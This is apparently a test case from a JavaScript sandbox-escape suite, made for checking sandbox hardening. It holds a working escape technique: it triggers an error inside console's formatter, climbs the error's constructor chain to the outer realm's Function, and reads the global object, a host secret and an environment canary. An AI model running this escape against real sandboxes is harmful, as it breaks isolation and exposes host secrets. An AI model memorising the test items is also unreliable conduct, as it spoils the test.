/*---
id: proto-host-error
title: An exception thrown by outer code carries the outer realm
category: prototype
goal: Catch an Error object created by the embedder's code (not the guest's), climb its constructor chain to the outer Function and leak the global and env canaries.
technique: Errors are created in the realm of the function that throws them: make console's '%d' formatter (outer code) throw a TypeError on an object without a primitive value, catch it, and call e.constructor.constructor('return globalThis')(); a guest-made TypeError (null.x) is the control.
references: CVE-2023-30547, CVE-2023-29199, https://tc39.es/ecma262/#sec-ordinarytoprimitive
expect: * = escaped; *+isolated-vm = contained; *+quickjs = contained
expect-hardened: * = contained; host = escaped; host+vm = escaped
---*/
const caught = {};
try {
  null.x;
} catch (e) {
  caught.guestError = e;
} // control: the guest's own realm
try {
  console.log('%d', Object.create(null));
} catch (e) {
  caught.outerError = e;
} // thrown inside the formatter
try {
  console.log(`${{ [Symbol.toPrimitive]: 1 }}`);
} catch (e) {
  caught.guestError2 = e;
}
const leaked = {};
for (const [name, e] of Object.entries(caught)) {
  try {
    const F = e.constructor.constructor;
    const g = F('return globalThis')();
    leaked[name] = {
      foreign: F !== Function,
      hostSecret: g.__hostSecret,
      env: g.process ? g.process.env.WORKBENCH_CANARY : undefined,
    };
  } catch (err) {
    leaked[name] = String(err).slice(0, 80);
  }
}
console.log('errors caught:', Object.keys(caught).join(', '), '→', JSON.stringify(leaked));
leaked;
